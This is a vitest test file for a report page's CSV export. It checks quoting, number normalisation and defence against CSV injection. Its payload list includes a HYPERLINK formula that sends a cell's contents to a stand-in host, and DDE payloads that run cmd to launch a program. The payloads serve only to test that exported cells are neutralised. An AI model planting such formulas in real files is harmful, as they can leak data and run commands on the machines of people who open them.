import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { repository } from '../../fixtures.ts';

type Csv = { readonly csvText: (rows: readonly string[][]) => string; readonly csvNumber: (text: string) => string };

/** The script of the page, as the browser runs it. */
const script = readFileSync(repository('src', 'report', 'html', 'page', 'csv.js'), 'utf8');
const { csvText, csvNumber } = new Function(`${script}; return { csvText, csvNumber };`)() as Csv;

/** As another program reads it. */
const read = (rows: readonly string[][]): string[][] => parse(csvText(rows), { bom: true, record_delimiter: '\r\n' });

it('a file that the page saves is read back cell by cell, with quotes, commas and line ends in them', () => {
  const rows = [
    ['id', 'prompt', 'empty'],
    ['1', 'She said "no, never",\nand left.\r\nA. yes', ''],
    ['2', '例 − ✓ ;\t', ' spaces '],
  ];
  expect(read(rows)).toEqual(rows);
  expect(csvText([['a', 'b']])).toBe('\ufeff"a","b"\r\n');
});

// OWASP, CSV injection: cells that begin with these characters; the payloads are the examples of that page and of
// reports in the wild.
it.each([
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '-',
  '+1-1',
  '-1e5+A1',
])('a cell that a spreadsheet would run is a text: %j', (payload) => {
  expect(read([[payload]])).toEqual([[`'${payload}`]]);
});

it.each(['-5', '+5', '-0.25', '1e-4', '-1.2e-4', '12', 'a=1', '(-1)', ''])(
  'a number, or another text, stays as it is: %j',
  (text) => {
    expect(read([[text, 'x']])).toEqual([[text, 'x']]);
  },
);

it('numbers are those that a program reads', () => {
  expect(['−1,234.5', '+0.0551', '1.20e−4', '—', '0'].map(csvNumber)).toEqual([
    '-1234.5',
    '0.0551',
    '1.20e-4',
    '',
    '0',
  ]);
  expect(['−1,234.5', '1.20e−4'].map((text) => Number(csvNumber(text)))).toEqual([-1234.5, 0.00012]);
});
